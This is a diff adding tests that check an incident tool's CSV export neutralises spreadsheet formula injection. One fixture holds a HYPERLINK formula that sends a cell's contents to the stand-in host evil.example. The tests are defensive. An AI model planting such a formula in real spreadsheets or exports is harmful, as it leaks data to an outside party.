@@ -81,3 +81,24 @@ def test_a_database_that_is_down_is_one_clear_line():
     code, _, err = run({"DATABASE_URL": "postgresql+psycopg://nobody@127.0.0.1:1/none"}, "list")
     assert code == 1 and err.startswith("error: the database at postgresql+psycopg://nobody@127.0.0.1:1/none")
     assert "Traceback" not in err
+
+
+def test_export_cells_that_look_like_formulas_are_text(tmp_path):
+    url = f"sqlite:///{tmp_path / 'incidents.sqlite3'}"
+    IncidentService(Settings(DATABASE_URL=url)).submit(draft(
+        description='=HYPERLINK("http://evil.example/?"&A1,"Click")', people_text="+44 7700 900000",
+        reporter_name="@admin"), "f")
+    code, out, _ = run({"DATABASE_URL": url}, "export", "--format", "csv")
+    row = list(csv.reader(io.StringIO(out)))[1]
+    assert code == 0
+    assert row[3] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" and row[2] == "'+44 7700 900000"
+    assert row[5].startswith("'@admin")
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+
+
+@pytest.mark.parametrize("value, shown", [("=1+2", "'=1+2"), ("-3", "'-3"), ("\tx", "'\tx"), ("plain", "plain"),
+                                          ("", ""), (7, 7)])
+def test_a_formula_start_is_neutralised(value, shown):
+    from bot.cli.spreadsheet import as_text_cell
+
+    assert as_text_cell(value) == shown
